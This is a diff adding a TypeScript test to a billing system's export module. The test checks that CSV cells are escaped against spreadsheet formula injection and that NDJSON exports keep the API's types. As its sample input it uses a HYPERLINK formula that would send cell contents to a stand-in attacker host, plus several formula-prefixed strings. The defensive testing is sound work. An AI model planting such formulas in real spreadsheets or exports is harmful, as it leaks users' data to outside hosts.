@@ -238,4 +238,95 @@ describe('exports', () => {
       await server.close();
     }
   });
+
+  it('neutralises formula cells in every CSV, and NDJSON keeps the API types', async () => {
+    const app = await w.app(t0);
+    const { exportLines } = await import('../../src/billing/reporting/exports.ts');
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+    const m = await createMandate(app, {
+      customerRef: evil,
+      intent: 'subscription',
+      amount: 250,
+      currency: 'GBP',
+      narrative: 'Exports',
+      interval: '1 month',
+      start: new Date(t0.getTime() + DAY),
+      credential: { cardNumber: '4444333322221111', expiryMonth: 12, expiryYear: 2030 },
+    });
+    const window = { from: new Date('2026-01-01T00:00:00Z'), to: new Date('2099-01-01T00:00:00Z') };
+    const read = async (kind: string, format: string) => {
+      let text = '';
+      for await (const chunk of exportLines(w.t.database, kind, { ...window, format })) text += chunk;
+      return text;
+    };
+    const quoted = `"'${evil.replaceAll('"', '""')}"`;
+    for (const kind of ['mandates', 'events']) {
+      const csv = await read(kind, 'csv');
+      // the reference's cells start with a quote; no cell starts with a formula character
+      expect(csv, kind).toContain(quoted);
+      expect(csv, kind).not.toMatch(/(^|,)"?[=+@]/m);
+    }
+    const { csvCell } = await import('../../src/billing/reporting/csv.ts');
+    expect(['+1', '-x', '@SUM(A1)', '\tcmd', '\rcmd', '-1500', '12', 'plain'].map(csvCell)).toEqual([
+      `"'+1"`,
+      `"'-x"`,
+      `"'@SUM(A1)"`,
+      `"'\tcmd"`,
+      `"'\rcmd"`,
+      '-1500',
+      '12',
+      'plain',
+    ]);
+    const mandateLine = (await read('mandates', 'ndjson'))
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l))
+      .find((r) => r.id === m.id);
+    expect(mandateLine).toMatchObject({ id: m.id, amount: 250, credit_balance: 0, customer_ref: evil });
+    const [event] = (await read('events', 'ndjson'))
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l))
+      .filter((e) => e.mandate_id === m.id);
+    // as GET /v1/events: the id a string (the cursor), the mandate a number
+    expect(typeof event.id).toBe('string');
+    expect(event.mandate_id).toBe(m.id);
+    expect(event.data.customerRef).toBe(evil);
+    await runBilling(await w.app(new Date(t0.getTime() + DAY)), {
+      asOf: new Date(t0.getTime() + DAY + 60_000),
+      trigger: 'test',
+    });
+    const [charge] = (await read('charges', 'ndjson'))
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l))
+      .filter((c) => c.mandate_id === m.id);
+    expect(charge).toMatchObject({ mandate_id: m.id, cycle: 0, amount: 250, attempt_count: 1 });
+    expect(typeof charge.id).toBe('number');
+    const [attempt] = (await read('attempts', 'ndjson'))
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l))
+      .filter((a) => a.charge_id === charge.id);
+    expect(attempt).toMatchObject({ attempt_no: 1, http_status: 201 });
+    if (hasServer) {
+      const forecast = await runCli(
+        [
+          'forecast',
+          '--from',
+          '2027-06-01T00:00:00Z',
+          '--to',
+          '2027-09-01T00:00:00Z',
+          '--csv',
+          '--mandate',
+          String(m.id),
+        ],
+        { ...w.env, REBILL_LOG_LEVEL: 'warn' },
+      );
+      expect(forecast.code, forecast.stderr).toBe(0);
+      const rows = forecast.stdout.trim().split('\n').slice(1);
+      expect(rows.length).toBeGreaterThan(0);
+      for (const row of rows) expect(row).toContain(`,${quoted},`);
+    }
+  });
 });
